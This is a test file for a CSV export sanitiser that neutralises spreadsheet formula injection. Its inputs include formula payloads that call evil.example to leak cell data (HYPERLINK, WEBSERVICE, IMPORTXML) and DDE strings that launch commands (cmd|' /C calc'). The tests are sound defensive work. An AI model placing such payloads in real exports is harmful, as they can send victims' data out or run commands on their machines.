"""vision/exports.py: CSV cells that a spreadsheet would run as formulas are made text, ordinary text is left
alone, and the CSV and JSON helpers stream rows one at a time."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vision.exports import FORMULA_STARTS, csv_lines, csv_safe, json_chunks


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1, "Click")',
        "+1+1",
        "+44 20 7946 0000",  # kept as text rather than summed
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\tHello",
        "\rHello",
        "\nHello",
        "   =1+1",
        "\u00a0=1+1",  # a no-break space first
        '\n=WEBSERVICE("https://evil.example/")',
        "\uff1d1+1",  # full-width equals sign
        "\uff0bcmd|' /C calc'!A0",
        '- HYPERLINK("https://evil.example/")',
        '- WEBSERVICE ("https://evil.example/")',
        '- 1 & WEBSERVICE ("https://evil.example/")',
        "- cmd|' /C calc'!A0",
        '- Red shoes\n- IMPORTXML("https://evil.example/", "//a")',
        "- item\n+cmd|' /C calc'!A0",
        '=HYPERLINK("http://x","y")',
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        "=1+1 purple plate @home",  # = and @ are always a formula, whatever follows
        "@home",
        "-1+2",
        "+A1*2",
        "-20%*3",
        "-Sheet1!A1",
        "+ 'other sheet'!B2",
        "- SUM (A1:A3)",
    ],
)
def test_it_quotes_cells_a_spreadsheet_would_run(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "A kite on a beach",
        "",
        "Price: =12",
        "Email me @ noon",
        "2+2",
        "'=1+1",  # already quoted: not quoted twice
        "- Red shoes",
        "- Red shoes (size 42)",
        "- A red kite (diamond shaped)",
        "- Red shoes\n- Blue hat\n- Green scarf",
        "  - indented item",
        "-12",
        "-12.5",
        "-1,250.00",
        "-3e5",
        "-",
        "---",
        "https://example.com/a-b.jpg",
        "Żółć = colour",
        # a leading + or - is only a formula when what follows could be one (a call, a pipe, a sheet
        # reference or plain arithmetic); ordinary prose keeps its sign
        "-20% off: yellow bowl with blue dot",
        "+1 colour",
        "- a list item",
        "-20% off!",
        "+ free delivery (this week only)",
        "-- flag",
        "-12abc",
        "-20%",
    ],
)
def test_it_leaves_ordinary_text_and_numbers_alone(value):
    assert csv_safe(value) == value


@pytest.mark.parametrize("value", [None, 0, -12, -1.5, True, datetime.date(2024, 5, 1)])
def test_it_leaves_values_that_are_not_text_alone(value):
    assert csv_safe(value) is value


@given(st.text(max_size=40))
def test_a_spreadsheet_never_sees_a_formula_it_could_call_out_from(value):
    safe = csv_safe(value)
    assert safe in (value, "'" + value)
    if safe == value and value.lstrip().startswith(FORMULA_STARTS):
        # Only the documented exceptions reach a spreadsheet unquoted, and none of them can call anything.
        assert value.lstrip()[:1] in "-+\uff0d\uff0b"
        assert "|" not in value
        assert not re.search(r"[^\W\d][\w.]*\(", value)
    if safe == value:
        assert not value.startswith(("\t", "\r", "\n"))


@given(st.text(alphabet=st.characters(blacklist_characters="=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"), max_size=40))
def test_text_that_starts_without_a_trigger_is_never_changed(value):
    if not value.lstrip().startswith(FORMULA_STARTS):
        assert csv_safe(value) == value


def read(lines) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_lines_starts_with_a_byte_order_mark_and_the_header():
    lines = csv_lines(["id", "answer"], [[1, "A kite"]])
    first = next(lines)
    assert first == "\ufeffid,answer\r\n"
    assert next(lines) == "1,A kite\r\n"
    assert list(lines) == []


def test_csv_lines_reads_mappings_by_the_header_and_makes_every_cell_safe():
    rows = [{"answer": "=1+1", "id": 7, "ignored": "x"}, {"id": 8, "answer": "- Red\n- Blue"}]
    assert read(csv_lines(["id", "answer"], rows)) == [["id", "answer"], ["7", "'=1+1"], ["8", "- Red\n- Blue"]]


def test_csv_lines_is_lazy():
    def rows():
        yield ["one"]
        raise AssertionError("read too far")

    lines = csv_lines(["name"], rows())
    assert next(lines).endswith("name\r\n")
    assert next(lines) == "one\r\n"


def test_json_chunks_make_one_valid_array_one_row_per_chunk():
    chunks = list(json_chunks(iter([{"answer": "Żółw"}, {"answer": "=1+1"}])))
    assert len(chunks) == 4
    assert "Żółw" in chunks[1]  # not escaped
    assert json.loads("".join(chunks)) == [{"answer": "Żółw"}, {"answer": "=1+1"}]


def test_json_chunks_of_nothing_is_an_empty_array():
    assert json.loads("".join(json_chunks([]))) == []
